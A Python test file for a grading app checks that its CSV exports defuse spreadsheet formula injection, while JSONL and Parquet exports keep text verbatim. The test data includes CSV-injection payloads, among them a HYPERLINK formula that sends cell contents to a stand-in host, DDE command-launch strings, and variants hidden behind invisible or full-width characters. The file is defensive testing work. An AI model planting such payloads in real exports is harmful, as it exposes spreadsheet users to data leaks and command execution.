"""CSV injection: text a spreadsheet would run as a formula is neutralised in every CSV we write.

JSONL and Parquet keep the exact text; numbers (also negative ones) stay numbers in CSV.
"""
import csv
import io
import json
from decimal import Decimal

import pandas as pd
import pytest
from django.core.management import call_command
from django.urls import reverse

from annotation.export.writers import write_export
from annotation.models import Label, Question, Response, StepLabel
from core.csv_cells import safe_cell
from tests.factories import (
    make_imported_gold,
    make_question,
    make_responses,
    make_results,
    make_stored_setting,
    set_gold,
)

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # spreadsheets trim leading blanks (issue 29, item 15)
    "\n=HYPERLINK(\"http://evil.example\")",
    "  \n +1",
    "\u3000=1+1",  # the ideographic space
    "\xa0@SUM(1)",
    "\ufeff=1+1",
    "＝HYPERLINK(\"http://evil.example\")",  # full-width forms
    "＋1",
    "－2",
    "＠SUM(1)",
    " ＝1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", " ", "\u3000", "\xa0", "\ufeff", "＝", "＋", "－", "＠")


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def _unsafe_cells(text):
    """Cells of a CSV text that start like a formula and are not plain numbers."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(DANGEROUS) and not _is_number(cell)]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_like_a_formula_gets_a_quote(value):
    assert safe_cell(value) == "'" + value


INTERLEAVED = [
    " \u200b \u200b=1+1",  # blanks and zero-width spaces interleaved (issue 40, item 6)
    "\u200b \u200b@SUM(1)",
    "\u3000\u200b\u3000＝1",
    " \u200e\u200f+1",  # bidi marks (Cf)
    "\u00ad \u2060-2",  # soft hyphen, word joiner
    "\u2028=1",  # line separator (Zl)
    " \x0b\x1f\x7f =1",  # control characters (Cc)
    "\u202f\u2007\u200a=1",  # narrow no-break, figure and hair spaces (Zs)
    "\ufeff\u200b\ufeff\u200d=1",
]


@pytest.mark.parametrize("value", INTERLEAVED)
def test_blanks_and_invisible_characters_in_any_order_before_a_formula_get_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [" \u200b 3", "\u200b\u3000x = -1", "\u200e解：x＝1"])
def test_invisible_characters_before_harmless_text_change_nothing(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("value", [-3, -0.5, 0, 2.5, Decimal("-1.50"), None, True, False, "", "x = -3", "3", "'=x",
                                   " 3", "  x = 1", "\u3000解：x＝1", "a＝b"])
def test_numbers_and_harmless_text_are_unchanged(value):
    assert safe_cell(value) is value


@pytest.fixture
def hostile(reviewer, annotator):
    """Responses whose transcripts start like formulas, with a label, a step label and a judge result each."""
    question = make_question("Solve $x+1=0$.", exam_name="@exam", location="=3-17")
    responses = make_responses(question, len(HOSTILE))
    for response, text in zip(responses, HOSTILE):
        response.transcript = text
        response.student_id = "-" + response.student_id
    Response.objects.bulk_update(responses, ["transcript", "student_id"])
    set_gold(responses, [5] * len(responses))
    checkpoint = question.checkpoints.order_by("order").first()
    for response, text in zip(responses, HOSTILE):
        label = Label.objects.create(response=response, annotator=annotator, sub_scores={"(1)": 3}, total=3,
                                               submitted=True, comment=text)
        StepLabel.objects.create(label=label, checkpoint=checkpoint, start=0, end=3, quote=text,
                                 verdict="calculation_error", comment=text)
    setting = make_stored_setting("=HYPERLINK(\"http://evil.example\")")
    make_results(setting, responses, [-0.5, 3, 4, 5, 6, 7], rationale=HOSTILE[0])
    return responses


def test_every_export_csv_is_neutralised_and_numbers_stay_numbers(hostile, tmp_path):
    write_export(Response.objects.all(), "csv", tmp_path)
    names = {path.name for path in tmp_path.glob("*.csv")}
    assert {"responses.csv", "annotations.csv", "step_labels.csv", "judge_results.csv"} <= names
    for name in names:
        assert _unsafe_cells((tmp_path / name).read_text(encoding="utf-8")) == [], name
    responses = pd.read_csv(tmp_path / "responses.csv", keep_default_na=False)
    assert sorted(responses["transcript"]) == sorted("'" + text for text in HOSTILE)
    assert set(responses["question_location"]) == {"'=3-17"}
    steps = pd.read_csv(tmp_path / "step_labels.csv", keep_default_na=False)
    assert sorted(steps["quote"]) == sorted("'" + text for text in HOSTILE)
    judged = pd.read_csv(tmp_path / "judge_results.csv", keep_default_na=False)
    assert judged["score"].dtype.kind == "f" and judged["score"].min() == -0.5
    assert set(judged["rationale"]) == {"'" + HOSTILE[0]}
    assert set(judged["config"]) == {"'=HYPERLINK(\"http://evil.example\")"}


def test_jsonl_and_parquet_keep_the_exact_text(hostile, tmp_path):
    write_export(Response.objects.all(), "jsonl", tmp_path / "jsonl")
    lines = [json.loads(line) for line in (tmp_path / "jsonl" / "dataset.jsonl").read_text().splitlines()]
    assert sorted(line["transcript"] for line in lines if line["type"] == "response") == sorted(HOSTILE)
    write_export(Response.objects.all(), "parquet", tmp_path / "parquet")
    table = pd.read_parquet(tmp_path / "parquet" / "responses.parquet")
    assert sorted(table["transcript"]) == sorted(HOSTILE)
    assert sorted(pd.read_parquet(tmp_path / "parquet" / "step_labels.parquet")["quote"]) == sorted(HOSTILE)


@pytest.fixture
def hostile_metrics():
    """A judge setting and question labels that start like formulas; the judge scores below gold."""
    question = make_question("Show that $x^2 \\geq 0$.", exam_name="+exam", location="@3-07")
    responses = make_responses(question, 4)
    set_gold(responses, [5] * 4)
    make_imported_gold(responses, total=5)
    setting = make_stored_setting("=HYPERLINK(\"http://evil.example\", \"metrics\")")
    make_results(setting, responses, [1, 2, 3, 4])
    return setting


def test_metrics_csv_download_is_neutralised(reviewer_client, hostile_metrics):
    response = reviewer_client.get(reverse("grading:review_metrics_csv"), {"setting": hostile_metrics.pk})
    text = response.content.decode()
    assert _unsafe_cells(text) == []
    rows = list(csv.reader(io.StringIO(text)))
    header, first = rows[0], rows[1]
    assert first[header.index("setting")] == "'" + hostile_metrics.name
    assert float(first[header.index("mean_signed_error")]) == pytest.approx(-2.5)  # still a number
    labels = {row[header.index("label")] for row in rows}
    question = Question.objects.get(location="@3-07")  # its id: sequences do not roll back on PostgreSQL
    assert {f"'@3-07 · question #{question.pk}", "'+exam"} <= labels


def test_metrics_and_disagreements_commands_write_neutralised_csv(hostile_metrics):
    for command, *options in (("metrics", "--bootstrap", "0"), ("disagreements",)):
        out = io.StringIO()
        call_command(command, "--format", "csv", *options, stdout=out)
        text = out.getvalue()
        assert _unsafe_cells(text) == [], command
        assert "'=HYPERLINK" in text, command
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert sorted(float(row["delta"]) for row in rows) == [-4.0, -3.0, -2.0]  # still numbers
